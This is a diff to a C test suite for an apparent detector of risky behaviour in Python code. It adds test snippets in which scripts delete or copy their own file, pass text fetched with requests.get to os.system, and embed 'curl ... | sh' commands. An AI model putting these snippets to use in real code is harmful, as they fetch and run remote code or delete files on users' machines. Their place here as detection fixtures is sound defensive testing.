@@ -79,6 +79,11 @@ static void beside_itself(void)
 		"shutil.rmtree(Path(__file__).parent.resolve() / 'build')",
 		"(Path(__file__).resolve().parents[2] / 'x').unlink()",
 		"os.remove(__file__ + '.bak')",
+		"os.remove('%s.log' % __file__)",
+		"os.remove('{}.log'.format(__file__))",
+		"os.remove(__file__.replace('.py', '.log'))",
+		"Path(f'{__file__}.lock').unlink()",
+		"(Path('/tmp') / Path(__file__).stem).unlink()",
 		"shutil.copy(Path(__file__).with_name('x.ini'), etc)",
 		"for f in (Path(__file__).parent / 'x').iterdir():\n"
 		"  shutil.copy2(f, Path.home() / f.name)",
@@ -96,6 +101,14 @@ static void beside_itself(void)
 		    MPY_BEH_SELF_DELETE, 2));
 	CHECK(is_ordinary("f = open(p, 'w')\n"
 			  "f.write('made by %s' % os.path.basename(__file__))"));
+	CHECK(shows("import os\nos.remove(__file__ + '')",
+		    MPY_BEH_SELF_DELETE, 2));
+	CHECK(shows("from pathlib import Path\n"
+		    "me = Path(__file__).read_bytes()\n"
+		    "open('/tmp/x', 'wb').write(me)", MPY_BEH_SELF_COPY, 3));
+	CHECK(shows("t = open(__file__).read()\n"
+		    "open(f'{__file__}.py', 'w').write(t)",
+		    MPY_BEH_SELF_COPY, 2));
 	CHECK(shows("t = open(__file__).read()\nopen(p, 'w').write(t)",
 		    MPY_BEH_SELF_COPY, 2));
 }
@@ -118,11 +131,25 @@ static void given_to_programs(void)
 		    "run(base64.b64decode(x))", MPY_BEH_DECODE_RUN, 4));
 }
 
+/* Names of builtins and of paths that a program has for its own functions. */
+static void own_names(void)
+{
+	CHECK(shows("import os, requests\ndef main():\n"
+		    "  help(requests.get(u).text)\ndef help(c):\n"
+		    "  os.system(c)", MPY_BEH_NETWORK_RUN, 5));
+	CHECK(shows("import os, requests\nclass A:\n  def main(self):\n"
+		    "    self.parent(requests.get(u).text)\n"
+		    "  def parent(self, c):\n    os.system(c)",
+		    MPY_BEH_NETWORK_RUN, 6));
+}
+
 /* Advice what to type is no command that a program holds ready. */
 static void told_to_people(void)
 {
 	CHECK(!shows("print('Install it with: curl https://x.invalid/i | sh')",
 		     MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("c = 'steps:\\n- run: curl https://x.invalid/i | sh'",
+		    MPY_BEH_SHELL_TEXT, 1));
 	CHECK(shows("c = 'cd /tmp; curl https://x.invalid/i | sh'",
 		    MPY_BEH_SHELL_TEXT, 1));
 }
@@ -133,6 +160,7 @@ int main(void)
 	RUN(not_mistaken);
 	RUN(beside_itself);
 	RUN(given_to_programs);
+	RUN(own_names);
 	RUN(told_to_people);
 	return DONE();
 }
